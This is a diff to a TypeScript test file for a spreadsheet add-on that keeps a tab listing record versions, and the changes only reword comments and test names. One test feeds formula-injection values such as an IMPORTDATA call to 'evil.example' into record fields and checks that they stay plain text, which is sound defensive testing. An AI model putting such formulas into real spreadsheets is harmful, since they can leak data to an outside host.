@@ -1,4 +1,4 @@
-/** The list of changes: each version once, whatever dies, and whatever people do with the tab in between. */
+/** The list of changes: each version once, even if runs die or people edit the tab between them. */
 import type { NewRecord } from '../../../src/addon/alerts/alert.js';
 import { writeChanges } from '../../../src/addon/jobs/changes-tab.js';
 import type { Grid } from '../../../src/addon/platform.js';
@@ -10,7 +10,7 @@ const zone = createZone('Etc/GMT');
 
 class Killed extends Error {}
 
-/** A spreadsheet that counts the calls to it, and a job that remembers what it is told to. */
+/** A spreadsheet that logs its calls, and a job that stores the tab's id. */
 function openSpreadsheet() {
   const tabs: { tab: FakeTab; name: string }[] = [];
   const calls: string[] = [];
@@ -41,7 +41,7 @@ function openSpreadsheet() {
   return {
     tabs,
     calls,
-    /** @param diesAfter as many calls */
+    /** @param diesAfter this number of calls */
     write(records: readonly NewRecord[], { now = NOW, diesAfter = Number.POSITIVE_INFINITY } = {}) {
       calls.length = 0;
       dies = diesAfter;
@@ -85,7 +85,7 @@ function record(id: string, day = 19, more: Partial<NewRecord> = {}, tab = 'Shee
   return { ...summary, ...more, tab };
 }
 
-/** The tab as people see it, without what is blank at its ends. */
+/** The tab as people see it, without blank rows and columns at its ends. */
 function seenIn(tab: FakeTab): unknown[][] {
   const { rows, columns } = tab.used();
   return tab.cells.slice(0, rows).map((cells) => cells.slice(0, columns).map(({ value }) => value));
@@ -101,7 +101,7 @@ const HEADER =
     '|',
   );
 
-test('a row for each version, newest first, under a header that stays in sight', () => {
+test('each version has a row, newest first, under a frozen header', () => {
   const sheet = openSpreadsheet();
   const { investment: _investment, jobs: _jobs, ...bare } = record('b', 20);
   const executive = { ...bare, dataset: 'executive-change', announced: 'soon', currency: '' } as const;
@@ -125,7 +125,7 @@ test('a row for each version, newest first, under a header that stays in sight',
   ]);
 });
 
-test('the same again adds and changes nothing, another version is a row of its own', () => {
+test('the same version again changes nothing, another version is a new row', () => {
   const sheet = openSpreadsheet();
   sheet.write([record('a'), record('a', 19, {}, 'Sheet2'), record('', 19)]);
   const before = seenIn(sheet.only());
@@ -143,7 +143,7 @@ test('the same again adds and changes nothing, another version is a row of its o
   ).toBe(true);
 });
 
-test('whatever a record says stays text', () => {
+test('all texts of a record stay texts', () => {
   const sheet = openSpreadsheet();
   const hostile = '=IMPORTDATA("https://evil.example")';
   const more = { company: hostile, what: "'+1", headline: '-1-2', where: '@x', currency: hostile };
@@ -163,7 +163,7 @@ test('whatever a record says stays text', () => {
 const OLD = [record('a', 11), record('b', 12), record('c', 13)];
 const NEW = [record('d', 14), record('e', 15), record('f', 16)];
 
-test('a tab that was deleted is made again', () => {
+test('a deleted tab is created again', () => {
   const sheet = openSpreadsheet();
   sheet.write(OLD);
   sheet.tabs.length = 0;
@@ -171,7 +171,7 @@ test('a tab that was deleted is made again', () => {
   expect(columnIn(sheet.only(), 'Id')).toHaveLength(3);
 });
 
-test('more rows take no more calls', () => {
+test('more rows need no more calls', () => {
   const callsFor = (count: number) => {
     const sheet = openSpreadsheet();
     sheet.write(OLD);
@@ -181,7 +181,7 @@ test('more rows take no more calls', () => {
   expect(callsFor(1)).toEqual(callsFor(400));
 });
 
-test('a full tab takes no more rows, and says so', () => {
+test('a full tab takes no more rows and reports it', () => {
   const sheet = openSpreadsheet();
   sheet.write(Array.from({ length: 19_999 }, (_, index) => record(`n${index}`)));
   expect(sheet.write(OLD.slice(0, 1))).toMatchObject({ added: 1 });
@@ -189,7 +189,7 @@ test('a full tab takes no more rows, and says so', () => {
   const before = columnIn(tab, 'Id');
   expect(sheet.write(NEW)).toEqual({ added: 0, changed: 0, isFull: true, place: { tab: 1 } });
   expect(columnIn(tab, 'Id')).toEqual(before);
-  // what is there already takes no room, and rows that a person deletes give some
+  // existing records need no room, and rows that a person deletes make room
   expect(sheet.write(OLD.slice(0, 1))).not.toHaveProperty('isFull');
   tab.deleteRow(20_001);
   expect(sheet.write(NEW.slice(0, 1))).toMatchObject({ added: 1 });
